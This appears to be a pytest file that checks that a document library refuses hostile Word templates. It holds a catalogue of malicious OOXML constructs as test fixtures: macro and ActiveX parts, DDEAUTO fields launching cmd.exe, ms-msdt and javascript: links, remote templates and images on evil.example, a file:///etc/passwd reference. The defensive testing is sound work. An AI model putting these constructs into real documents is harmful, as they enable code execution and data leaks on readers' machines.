"""Word templates of strangers: no expression reaches further than in ours, no package brings what runs or leads out."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from functools import cache

import pytest

from coordlib.document import Document
from coordlib.formats import paragraphs_of, read_printed
from coordlib.language import FindingsError
from coordlib.rendering import WordTemplate, budget, check_template, render, rendering
from coordlib.rendering.word import templates
from tests.rendering.offices import changed, of_lines, office, picture
from tests.rendering.subjects import LEDGER_FILE, subjects
from tests.rendering.test_sandbox import DOUBLED, DOUBLING, ENDLESS, OUT_OF_REACH
from tests.samples import MANY

Parts = dict[str, bytes]
SUBJECTS = subjects()
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def own(name: str) -> Document:
    return render(SUBJECTS[name], draft=True)


@pytest.fixture(autouse=True)
def _once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Print our own document once: that costs more than all that a template does."""
    names = {id(subject): name for name, subject in SUBJECTS.items()}
    monkeypatch.setattr(templates, "render", lambda subject, draft: own(names[id(subject)]) if draft else None)


def refused(text: str) -> str:
    """Return why a template of one line is refused, before it runs or as it does."""
    with pytest.raises(FindingsError) as caught:
        WordTemplate(of_lines(text)).render(SUBJECTS["report"], draft=True)
    assert {one.code for one in caught.value.findings} <= {"TPL002", "TPL003"}
    return str(caught.value)


def test_what_is_not_on_the_list_is_out_of_reach_of_a_word_template() -> None:
    for expression in OUT_OF_REACH if MANY else OUT_OF_REACH[::12]:
        assert LEDGER_FILE not in refused(f"{{{{ {expression} }}}}"), expression


def test_nothing_doubles_or_goes_on_without_end_in_a_word_template(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, most in (("MOST_STEPS", 50_000), ("MOST_LETTERS", 2_000_000), ("MOST_THINGS", 100_000)):
        monkeypatch.setattr(budget, name, most)
    monkeypatch.setattr(rendering, "MOST_PRINTED", 500_000)
    attacks = (*ENDLESS.values(), *(DOUBLING.format(seed=seed, twice=twice) for seed, twice in DOUBLED))
    for text in attacks if MANY else attacks[::8]:
        assert refused(text), text


@pytest.mark.parametrize(
    "text",
    [
        "{% include 'coordlib/report.xml.j2' %}",
        "{% import 'coordlib/pieces.xml.j2' as p %}",
        "{% extends 'coordlib/report.xml.j2' %}",
        "{% macro m() %}x{% endmacro %}",
        "{% call m() %}x{% endcall %}",
        "{% block x %}y{% endblock %}",
        "{% autoescape false %}x{% endautoescape %}",
        "{{ '<w:p/>' | safe }}",
        "{{ khoi_noi_dung ~ 'x' }}",
        "{{ khoi_1 }}",
    ],
)
def test_no_statement_brings_markup_or_other_files(text: str) -> None:
    assert refused(text)


def test_markup_in_a_value_stays_text() -> None:
    file = WordTemplate(of_lines("{{ '</w:t></w:r><w:x>' | e }}{{ '{{ ten_loai }}' }}")).render(
        SUBJECTS["agreement"], draft=True
    )
    said = [one.whole for one in paragraphs_of(read_printed(file.content, suffix=".docx"))]
    assert said == ["</w:t></w:r><w:x>{{ ten_loai }}"]


# --- packages ---


def with_relation(
    kind: str, target: str, mode: str = "External", part: str = "word/document.xml"
) -> Callable[[Parts], None]:
    folder, _, name = part.rpartition("/")
    file = f"{folder}/_rels/{name}.rels".lstrip("/")

    def change(parts: Parts) -> None:
        said = f'<Relationship Id="evil" Type="{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "")
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[file] = parts.get(file, empty).replace(b"</Relationships>", f"{said}/></Relationships>".encode())

    return change


def with_part(name: str, content: bytes = b"x", typed: str = "application/octet-stream") -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts[name] = content
        said = f'<Override PartName="/{name}" ContentType="{typed}"/></Types>'.encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", said)

    return change


def in_body(xml: str, part: str = "word/document.xml", end: bytes = b"<w:sectPr") -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts[part] = parts[part].replace(end, xml.encode() + end, 1)

    return change


def field(words: str, *, simple: bool = False) -> Callable[[Parts], None]:
    if simple:
        return in_body(f'<w:p><w:fldSimple w:instr="{words}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    torn = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in (words[:3], words[3:]))
    marks = [f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end")]
    return in_body(f"<w:p>{marks[0]}{torn}{marks[1]}<w:r><w:t>x</w:t></w:r>{marks[2]}</w:p>")


def replaced(part: str, old: bytes, new: bytes) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new, 1)

    return change


_MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_EMBEDDED = '<w:object xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject Type="Embed"/></w:object>'
_OLE = f"<w:p><w:r>{_EMBEDDED}</w:r></w:p>"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_IMAGE = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{0}" r:href="evil" '
    f'xmlns:r="{OFFICE}"/></v:shape></w:pict></w:r></w:p>'
)
HOSTILE: dict[str, Callable[[Parts], object]] = {
    "macros by type": replaced("[Content_Types].xml", _MAIN, _MACROS),
    "macros as a part": with_part("word/vbaProject.bin", typed="application/vnd.ms-office.vbaProject"),
    "macros as a relation": with_relation(f"{_MICROSOFT}/vbaProject", "vbaProject.bin", ""),
    "data of macros": with_part("word/vbaData.xml", b"<x/>", "application/vnd.ms-word.vbaData+xml"),
    "an embedded file": with_part("word/embeddings/oleObject1.bin"),
    "a related embedded file": with_relation(f"{OFFICE}/oleObject", "embeddings/oleObject1.bin", ""),
    "a package in it": with_relation(f"{OFFICE}/package", "embeddings/a.xlsx", ""),
    "an object": in_body(_OLE),
    "a control": in_body('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
    "controls as parts": with_part("word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
    "controls as relations": with_relation(f"{OFFICE}/control", "activeX/activeX1.xml", ""),
    "a template from the web": with_relation(
        f"{OFFICE}/attachedTemplate", "https://evil.example/a.dotm", part="word/settings.xml"
    ),
    "a template of a share": with_relation(
        f"{OFFICE}/attachedTemplate", "file:////evil.example/a/Other.dotm", part="word/settings.xml"
    ),
    "a linked picture": with_relation(f"{OFFICE}/image", "https://evil.example/a.png"),
    "a picture of the machine": with_relation(f"{OFFICE}/image", "file:///etc/passwd"),
    "a picture of old drawings": in_body(_IMAGE.format("https://evil.example/a.png")),
    "a chunk of another file": in_body('<w:altChunk r:id="evil"/>'),
    "a related chunk": with_relation(f"{OFFICE}/aFChunk", "chunk.html", ""),
    "a chunk of the web": with_relation(f"{OFFICE}/aFChunk", "https://evil.example/a.html"),
    "a document under it": in_body('<w:subDoc r:id="evil"/>'),
    "a related document": with_relation(f"{OFFICE}/subDocument", "https://evil.example/a.docx"),
    "a part that Word keeps for itself, on the web": with_relation(
        f"{OFFICE}/glossaryDocument", "https://evil.example/a.docx"
    ),
    "a frame": with_relation(f"{OFFICE}/frame", "https://evil.example/"),
    "a link that runs": with_relation(f"{OFFICE}/hyperlink", "javascript:alert(1)"),
    "a link to the machine": with_relation(f"{OFFICE}/hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "a link to a program": with_relation(f"{OFFICE}/hyperlink", "ms-msdt:/id"),
    "a field of programs": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "a short field of programs": field("DDE cmd x", simple=True),
    "a field of another text": field("INCLUDETEXT c:\\\\a.txt"),
    "a field of another picture": field("INCLUDEPICTURE https://evil.example/a.png", simple=True),
    "a field that runs macros": field("MACROBUTTON Evil x"),
    "a form field that runs a macro": in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r>'
        "<w:r><w:instrText> FORMTEXT </w:instrText></w:r></w:p>"
    ),
    "a field of a link": field("LINK Excel.Sheet c:\\\\a.xls"),
    "a field of an import": field("IMPORT c:\\\\a.wmf", simple=True),
    "a field of a database": field("DATABASE \\d c:\\\\a.mdb"),
    "a field that asks": field("FILLIN x"),
    "a field that links to the machine": field("HYPERLINK &quot;file:///C:/a.exe&quot;", simple=True),
    "a field that links without quotes": field("HYPERLINK file:///C:/a.exe"),
    "a theme in another encoding": replaced("word/theme/theme1.xml", b"<a:theme", b"\xff\xfe<a:theme"),
    "letters for many": in_body("<w:mailMerge/>", "word/settings.xml", b"</w:settings>"),
    "an unknown relation": with_relation("https://evil.example/new", "new.xml", ""),
    "a part that nothing knows": with_part("word/new.exe"),
    "a picture that is none": with_part("word/media/a.png", b"MZ", "image/png"),
    "a drawing that scripts": with_part("word/media/a.svg", b"<svg/>", "image/svg+xml"),
    "a doctype": replaced("word/document.xml", b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document'),
    "a header that is no header": with_relation(f"{OFFICE}/header", "settings.xml", ""),
    "two relations of a name": with_relation(f"{OFFICE}/image", "media/image1.png", ""),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_package_is_refused(what: str) -> None:
    sound = of_lines("{{ ten_loai }}", whole=True)
    assert check_template(sound).found == ()
    hostile = changed(sound, HOSTILE[what])
    with pytest.raises(FindingsError) as caught:
        WordTemplate(hostile)
    assert {one.code for one in caught.value.findings} <= {"TPL007", "FIL015"}


def test_what_word_keeps_for_itself_is_left_behind() -> None:
    def change(parts: Parts) -> None:
        with_part("customXml/item1.xml", b"<x/>", "application/xml")(parts)
        with_part("word/comments.xml", b"<x>{{ ten_loai }}</x>", "application/xml")(parts)
        with_relation(f"{OFFICE}/attachedTemplate", "file:///C:/Users/an/Normal.dotm", part="word/settings.xml")(parts)

    content = changed(of_lines("{{ ten_loai }}", whole=True), change)
    made = WordTemplate(content).render(SUBJECTS["agreement"], draft=True).content
    assert b"comments" not in made
    assert b"Normal.dotm" not in made
    assert [one.code for one in check_template(content)] == ["TPL006"]


def test_fields_of_forms_are_carried() -> None:
    form = changed(of_lines("{{ ten_loai }}", whole=True), field("FORMTEXT", simple=True))
    made = WordTemplate(form).render(SUBJECTS["agreement"], draft=True).content
    assert b"FORMTEXT" in zipfile.ZipFile(io.BytesIO(made)).read("word/document.xml")


def test_a_picture_of_the_letterhead_is_carried() -> None:
    made = WordTemplate(office("with_letterhead")).render(SUBJECTS["agreement"], draft=True).content
    assert picture() in made or b"word/media/image1.png" in made
